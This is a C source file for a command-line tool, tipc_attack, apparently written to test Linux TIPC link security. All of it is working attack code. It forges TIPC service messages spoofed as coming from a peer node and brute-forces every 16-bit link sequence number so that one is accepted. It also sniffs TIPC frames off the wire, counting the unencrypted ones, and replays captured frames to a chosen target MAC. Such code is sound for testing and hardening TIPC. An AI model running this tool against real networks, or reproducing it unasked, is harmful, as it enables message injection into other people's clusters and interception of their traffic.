// SPDX-License-Identifier: GPL-2.0
/*
 * What somebody on the network could try against TIPC:
 *
 *	tipc_attack forge IF MAC FROM TO TYPE INSTANCE [priority]	plain messages for a service, as if from a peer
 *	tipc_attack record IF FILE SECONDS	writes the TIPC frames that pass, until SIGTERM or for that long; says how many, and how
 *							many were plain
 *	tipc_attack replay IF FILE MAC TIMES	sends those for MAC again
 *
 * FROM and TO are TIPC node addresses (hex), which stand in clear in every frame. A link takes the message whose
 * 16-bit number is the next one: forge sends all numbers; when one fits, those behind it fit, too.
 * "priority" puts each frame into an 802.1p tag, which the receiving kernel takes off.
 */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ETH_TIPC    0x88ca
#define FRAME_MAX   2048
#define HEADER_SIZE 40
#define NAMED_MSG   2
#define CRYPTED	    7
#define ROUNDS	    2

static int packet_socket(const char *interface, uint16_t protocol)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(protocol)};
	int fd = socket(AF_PACKET, SOCK_RAW, htons(protocol));

	to.sll_ifindex = (int)if_nametoindex(interface);
	if (fd < 0 || !to.sll_ifindex || bind(fd, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror(interface);
		exit(1);
	}
	return fd;
}

static void parse_mac(const char *text, uint8_t mac[6])
{
	if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4],
		   &mac[5]) != 6) {
		fprintf(stderr, "%s is no MAC\n", text);
		exit(2);
	}
}

static void put_word(uint8_t *p, uint32_t value)
{
	value = htonl(value);
	memcpy(p, &value, sizeof(value));
}

static size_t put_ethernet(uint8_t *frame, const uint8_t mac[6], int priority)
{
	static const uint8_t source[6] = {2, 0, 0, 0, 0, 0x66};
	uint16_t type = htons(priority ? ETH_P_8021Q : ETH_TIPC);
	size_t len = 14;

	memcpy(frame, mac, 6);
	memcpy(frame + 6, source, 6);
	memcpy(frame + 12, &type, 2);
	if (priority) {
		type = htons(ETH_TIPC);
		memset(frame + 14, 0, 2);
		memcpy(frame + 16, &type, 2);
		len += 4;
	}
	return len;
}

static int forge(char **arg, int priority)
{
	static const char payload[] = "forged";
	uint32_t from = (uint32_t)strtoul(arg[2], NULL, 16), to = (uint32_t)strtoul(arg[3], NULL, 16);
	int fd = packet_socket(arg[0], 0);
	uint8_t frame[FRAME_MAX] = {0}, mac[6], *h;
	size_t size = HEADER_SIZE + sizeof(payload), len;

	parse_mac(arg[1], mac);
	len = put_ethernet(frame, mac, priority);
	h = frame + len;
	put_word(h, 2u << 29 | 0u << 25 | HEADER_SIZE / 4 << 21 | (uint32_t)size);
	put_word(h + 4, (uint32_t)NAMED_MSG << 29);
	put_word(h + 12, from);
	put_word(h + 16, 1); /* origin port */
	put_word(h + 24, from);
	put_word(h + 28, to);
	put_word(h + 32, (uint32_t)strtoul(arg[4], NULL, 10));
	put_word(h + 36, (uint32_t)strtoul(arg[5], NULL, 10));
	memcpy(h + HEADER_SIZE, payload, sizeof(payload));
	/* Some are lost on the way: again, that it does not depend on one. */
	for (uint32_t seq = 0; seq < ROUNDS * 65536; seq++) {
		put_word(h + 8, seq & 0xffff);
		while (send(fd, frame, len + size, 0) < 0)
			usleep(1000); /* the queue is full */
	}
	return 0;
}

static volatile sig_atomic_t over;

static void on_term(int sig)
{
	over = 1;
}

static int record(char **arg)
{
	int fd = packet_socket(arg[0], ETH_P_ALL);
	FILE *out = fopen(arg[1], "w");
	time_t end = time(NULL) + atoi(arg[2]);
	unsigned int frames = 0, plain = 0;

	if (!out) {
		perror(arg[1]);
		return 1;
	}
	signal(SIGTERM, on_term);
	puts("recording");
	fflush(stdout);
	while (!over && time(NULL) < end) {
		struct pollfd p = {.fd = fd, .events = POLLIN};
		uint8_t frame[FRAME_MAX];
		uint16_t len;
		ssize_t n;

		if (poll(&p, 1, 200) <= 0)
			continue;
		n = recv(fd, frame, sizeof(frame), 0);
		if (n < 18 || frame[12] != ETH_TIPC >> 8 || frame[13] != (ETH_TIPC & 0xff))
			continue;
		frames++;
		plain += frame[14] >> 5 != CRYPTED;
		len = (uint16_t)n;
		fwrite(&len, sizeof(len), 1, out);
		fwrite(frame, len, 1, out);
	}
	fclose(out);
	printf("frames %u plain %u\n", frames, plain);
	return 0;
}

static int replay(char **arg)
{
	int fd = packet_socket(arg[0], 0), times = atoi(arg[3]);
	unsigned int sent = 0;
	uint8_t mac[6];

	parse_mac(arg[2], mac);
	for (int i = 0; i < times; i++) {
		FILE *in = fopen(arg[1], "r");
		uint8_t frame[FRAME_MAX];
		uint16_t len;

		if (!in) {
			perror(arg[1]);
			return 1;
		}
		while (fread(&len, sizeof(len), 1, in) == 1 && len <= sizeof(frame) &&
		       fread(frame, len, 1, in) == 1) {
			if (memcmp(frame, mac, 6))
				continue;
			while (send(fd, frame, len, 0) < 0)
				usleep(1000);
			sent++;
		}
		fclose(in);
	}
	printf("sent %u\n", sent);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 8 && !strcmp(argv[1], "forge"))
		return forge(argv + 2, argc > 8);
	if (argc == 5 && !strcmp(argv[1], "record"))
		return record(argv + 2);
	if (argc == 6 && !strcmp(argv[1], "replay"))
		return replay(argv + 2);
	fputs("usage: tipc_attack forge IF MAC FROM TO TYPE INSTANCE [priority] | record IF FILE SECONDS | "
	      "replay IF "
	      "FILE MAC TIMES\n",
	      stderr);
	return 2;
}
